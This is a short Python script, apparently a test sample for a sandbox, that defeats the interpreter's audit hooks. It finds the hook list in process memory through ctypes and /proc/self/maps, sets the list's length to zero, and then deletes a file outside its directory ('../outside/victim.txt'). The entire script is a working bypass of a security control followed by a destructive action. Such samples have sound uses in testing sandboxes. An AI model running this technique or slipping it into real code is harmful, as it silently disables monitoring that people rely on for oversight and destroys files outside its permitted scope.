# The interpreter's list of hooks is found in its memory and emptied.
# damage: deleted
# needs: linux, ctypes
import ctypes
import os
import sys

ctypes.pythonapi.PyInterpreterState_Get.restype = ctypes.c_void_p
start = ctypes.pythonapi.PyInterpreterState_Get()
with open("/proc/self/maps") as file:
    spans = [tuple(int(part, 16) for part in line.split()[0].split("-")) for line in file if " rw-p " in line]


def readable(address):
    return address % 8 == 0 and any(first <= address and address + 32 <= last for first, last in spans)


def word(address):
    return ctypes.c_size_t.from_address(address).value


def hook(event, arguments):
    pass


sys.addaudithook(hook)
for address in range(start, start + 0x80000, 8):
    if not readable(address):
        break
    item = word(address)
    if readable(item) and word(item + 8) == id(list) and readable(word(item + 24)):
        size, first = word(item + 16), word(item + 24)
        if 0 < size < 100 and any(readable(first + 8 * n) and word(first + 8 * n) == id(hook) for n in range(size)):
            ctypes.c_size_t.from_address(item + 16).value = 0
os.unlink("../outside/victim.txt")
